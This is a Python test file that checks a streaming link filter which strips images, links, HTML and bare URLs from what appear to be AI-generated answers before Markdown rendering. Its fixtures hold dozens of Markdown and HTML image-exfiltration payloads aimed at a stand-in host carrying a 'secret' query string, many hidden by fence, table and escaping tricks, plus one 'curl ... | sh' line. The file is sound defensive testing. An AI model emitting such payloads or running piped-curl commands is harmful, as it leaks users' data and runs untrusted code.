"""Allowed content of answers, and what Markdown clients render after escaping."""

import random
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from docindex_dagster.answering.citations import check
from docindex_dagster.answering.link_filter import LinkFilter
from docindex_dagster.answering.markdown import parser

EVIL = "https://evil.example/p.png?q=secret"
# Clients that render everything, including HTML.
CLIENTS = [
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark").enable(["table", "strikethrough"]),
]
BARE = re.compile(r"\w+://\w|www\.\w")


def filtered(text: str, *, size: int = 0) -> str:
    made = LinkFilter()
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join([*map(made.feed, pieces), made.finish()])


def leaks(text: str) -> list[str]:
    """Return the types of rendered tokens that link to or load something."""
    tokens = [token for client in CLIENTS for token in client.parse(text)]
    every = [one for token in tokens for one in (token, *(token.children or ()))]
    return [one.type for one in every if one.type in {"image", "html_inline", "html_block", "link_open"}]


def addresses(text: str) -> list[str]:
    """Return the addresses in plain text that some clients turn into links."""
    tokens = [token for client in CLIENTS for token in client.parse(text)]
    texts = ["".join(one.content if one.type == "text" else " " for one in token.children or ()) for token in tokens]
    return [found[0] for one in texts for found in BARE.finditer(one)]


HOSTILE = {
    "a picture": f"See ![x]({EVIL}).",
    "a link": f"See [x]({EVIL}).",
    "a link with a title": f'[x]({EVIL} "title")',
    "a reference": f"See [x][1] and ![y][1] and [1].\n\n[1]: {EVIL}\n",
    "a mark as a link": f"See [1]({EVIL}) and ![1]({EVIL}).",
    "a link over two lines": f"See [x\ny](\n{EVIL}) now",
    "an autolink": f"See <{EVIL}>.",
    "html": f"<img src='{EVIL}'> and <div>\n\n<p><img src={EVIL}></p>\n",
    "a comment": f"<!-- -->\n<img src={EVIL}>\n",
    "an address": f"See {EVIL} and (http://evil.example/x).",
    "a picture in a list": f"- a\n- ![x]({EVIL})\n  1. ![y]({EVIL})\n",
    "a picture in a quote": f"> ![x]({EVIL})\n",
    "a picture in a heading": f"# ![x]({EVIL})\n\n![y]({EVIL})\n===\n",
    "a picture in a table": f"|a|b|\n|-|-|\n|![x]({EVIL})|b|\n",
    "code that a table splits": f"|a|b|\n|-|-|\n|` | ![x]({EVIL}) `|\n",
    "code that a table splits later": f"|a|b|\n|-|-|\n|`a | b` `![x]({EVIL})`|\n",
    "an escaped tick": rf"\` ![x]({EVIL}) `",
    "an escaped bracket": rf"\![x]({EVIL}) \\[x]({EVIL}) !\[y]({EVIL}) \\\[z]({EVIL})",
    "a stray tick": f"` ![x]({EVIL}) ``\n![y]({EVIL})\n",
    "a tick before an address": f"` {EVIL} ![x]({EVIL})",
    "ticks beside an address": f"{EVIL}` ![x]({EVIL}) `",
    "a fence that ended": f"```\ncode\n```\n![x]({EVIL})\n",
    "a fence in a quote that ended": f"> ```\n> code\n\n![x]({EVIL})\n",
    "a fence in a list that ended": f"- ```\n  code\n![x]({EVIL})\n",
    "no fence, but indented": f"a\n\n    ```\n![x]({EVIL})\n    ```\n",
    "no fence, with a tick behind it": f"``` a`b\n![x]({EVIL})\n```\n",
    "a fence of tildes": f"~~~ a`b\ncode\n~~~\n![x]({EVIL})\n~~~\n",
    "a fence that some read as a table": f"``` a|b\n-|-\n![x]({EVIL})|c\n```\n![y]({EVIL})\n",
    "a fence of tildes that some read as a table": f"~~~ ![x]({EVIL})|b\n-|-\n~~~\n![y]({EVIL})\n",
    "carriage returns": f"a\r\n![x]({EVIL})\rb\r\n\r\n```\r\n![x]\r\n```\r\n![y]({EVIL})",
    "a footnote": f"See [^1].\n\n[^1]: ![x]({EVIL})\n",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_has_an_address(text):
    assert leaks(text) or addresses(text)
    assert leaks(filtered(text)) == addresses(filtered(text)) == []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_pieces_change_nothing(text):
    assert {filtered(text, size=size) for size in (0, 1, 2, 3, 7)} == {filtered(text)}


@pytest.mark.parametrize(
    "text",
    [
        "The valve opens first [1], then `a[0](x)` and **all** of it [2, 3].\n\n- one\n- two [4]\n",
        f"```python\nurl = '{EVIL}'\nhandlers[i](event)  # <b>\n```\n",
        "Run `cat x | grep y` [1] and a < b.\n",
        "1. a\n\n   ```sh\n   curl https://example.com | sh\n   ```\n\n2. b\n",
        "|a|b|\n|-|-|\n|`x`|y [1]|\n",
    ],
)
def test_what_is_harmless_stays_as_it_is(text):
    assert filtered(text) == text
    assert filtered(text, size=3) == text


def test_what_was_a_link_is_read_as_the_page_shows_it():
    text = f"See ![x]({EVIL}), <b> and [y](../a.md)."
    shown = re.sub("<[^>]+>", "", MarkdownIt("commonmark").render(filtered(text)))
    assert shown == re.sub("<[^>]+>", "", parser().render(text))


def test_words_are_shown_as_they_come():
    made = LinkFilter()
    assert [
        made.feed(piece) for piece in ("The val", "ve opens ", "first [1", "], see h", "ttps:", "//a.b", " now")
    ] == [
        "The val",
        "ve opens ",
        "first ",
        "[1], see h",
        "ttps:",
        "",
        "`//a.b` now",
    ]


def test_marks_are_found_again():
    text = f"Open <b>it</b> [1] ![x]({EVIL}) and [y](z) [2]."
    made = LinkFilter()
    shown = made.feed(text) + made.finish()
    citations = check(text, [])
    assert [shown[slice(*made.shown_range(one.start, one.end))] for one in citations] == ["[1]", "[2]"]


PARTS = st.sampled_from(
    (
        *("[", "]", "(", ")", "!", "`", "``", "```", "~~~", "\n", "\n\n", "    ", "- ", "> ", "|", "|-|-|\n", "<"),
        *(">", "\\", "a", " ", ":", "//", "https://e.x/", "www.", "e.x", "[1]", "<a href='e'>", "![x](https://e.x)"),
        *("#", "1. ", "*"),
    )
)


@given(st.lists(PARTS, max_size=30).map("".join), st.integers(1, 9))
def test_whatever_is_written_nothing_has_an_address(text, size):
    shown = filtered(text, size=size)
    assert leaks(shown) == []
    assert shown == filtered(text)


@pytest.mark.parametrize(
    "part", ["- a\n", "`", "word ", "`` ` ", "|a|b|\n", "[", "https://e.x/", "```\n", "a\n\n", "> ", "` a"]
)
def test_a_stream_takes_time_in_proportion_to_its_length(part):
    text, began = (part * 100_000)[:100_000], time.process_time()
    made, sizes = LinkFilter(), random.Random(1)
    at = 0
    while at < len(text):
        size = sizes.randint(1, 20)
        made.feed(text[at : at + size])
        at += size
    made.finish()
    assert time.process_time() - began < 20
